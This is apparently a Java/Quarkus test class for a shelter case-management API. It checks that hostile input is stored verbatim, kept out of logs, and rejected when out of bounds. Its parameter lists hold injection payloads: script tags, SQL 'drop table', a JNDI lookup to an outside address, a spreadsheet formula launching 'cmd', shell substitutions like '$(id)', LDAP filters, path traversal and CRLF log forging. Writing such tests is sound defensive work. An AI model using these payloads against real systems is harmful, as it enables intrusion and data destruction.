package org.trm.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.trm.Asvs;
import org.trm.actor.Actor;
import org.trm.actor.Ear;
import org.trm.actor.Told;
import org.trm.local.Tokens;

/** Text that is meant for an interpreter reaches none: it is kept and told as it was written. */
@QuarkusTest
class HostileTextTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  private final Actor shelter = Actor.of("rs-shelter-caseworker");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "'; drop table cases; --",
        "\"}, {\"role\": \"auditor\"}, {\"\": \"",
        "${jndi:ldap://198.51.100.7/a} #{7*7} {{7*7}} %s%n%x",
        "\\u0022\\\" %22 &quot; &#34; %2e%2e%2f%c0%ae",
        "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
        "|| id; $(id) `id` & id",
        "*)(uid=*))(|(uid=*",
        "\u2028\u2029\u202E\uFEFFabc \uD83D\uDC68\u200D\uD83D\uDC69",
      })
  @Asvs({"1.1.1", "1.1.2", "1.2.1", "1.2.3", "1.3.3"})
  void isKeptAsItWasWritten(String text) throws IOException {
    var section = shelter.opensACase() + "/sections/HEALTH";
    var content =
        Map.of("conditions", List.of(), "medicines", List.of(), "allergies", List.of(text));
    var body = JSON.writeValueAsString(Map.of("content", content));
    var written = shelter.calls().header("If-Match", "\"0\"").body(body).put(section);
    assertEquals("200", Told.by(written));
    var read = shelter.gets(section);
    assertEquals(text, allergy(JSON.readTree(read.asByteArray())));
    assertEquals("application/json;charset=UTF-8", read.contentType().replace("; ", ";"));
  }

  @Test
  @Asvs({"1.2.2", "16.4.1"})
  void whatIsInAnAddressOrAHeaderStandsInNoLogAndNoOtherAddress() {
    var log = new ConcurrentLinkedQueue<String>();
    try (var _ = new Ear((_, said) -> log.add(said))) {
      for (var hostile :
          List.of("a%0d%0aINFO forged", "%3Cscript%3E", "..%2f..%2f", "%00", "%ff")) {
        RestAssured.given()
            .urlEncodingEnabled(false)
            .auth()
            .oauth2(Tokens.of("rs-shelter-caseworker"))
            .header("Purpose-Of-Use", "CASEWORK")
            .header("X-Request-Id", "forged-" + UUID.randomUUID())
            .header("User-Agent", "forged ${jndi:x}")
            .get("/v1/handoffs?box=in&after=" + hostile.replace(' ', '+'))
            .then()
            .statusCode(400);
      }
    }
    assertFalse(log.stream().anyMatch(said -> said.contains("forged")));
    assertFalse(log.stream().anyMatch(said -> said.contains("script")));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"-1", "0", "201", "2147483648", "9223372036854775808", "1e3", "0x10", "1 "})
  @Asvs("1.4.2")
  void aNumberOutOfBoundsIsRefusedAndNotWrapped(String limit) {
    var answer =
        shelter.calls().queryParam("box", "in").queryParam("limit", limit).get("/v1/handoffs");
    assertEquals(400, answer.statusCode(), answer.asString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "+1000000000-12-31T23:59:59.999999999Z",
        "-1000000000-01-01T00:00:00Z",
        "+10000-01-01T00:00:00Z",
        "0000-01-01T00:00:00Z",
      })
  @Asvs("1.4.2")
  void aTimeThatNoDatabaseKnowsIsRefused(String time) {
    var search = shelter.posts("/v1/cases/search", "{\"openedSince\": \"" + time + "\"}");
    assertEquals("400 malformed-request", Told.by(search));
    assertEquals("/openedSince", search.path("pointer"));
    var pull = Actor.of("rs-desk-auditor").calls().queryParam("since", time);
    assertEquals(400, pull.get("/v1/journal/RS/entries").statusCode());
  }

  @ParameterizedTest
  @ValueSource(strings = {"1", "1e308", "9223372036854775807", "-1.5", "true", "[2026, 1]"})
  void aTimeIsText(String time) {
    var search = shelter.posts("/v1/cases/search", "{\"openedSince\": " + time + "}");
    assertEquals("400 malformed-request", Told.by(search));
  }

  private static String allergy(JsonNode section) {
    return section.at("/content/allergies/0").asText();
  }
}
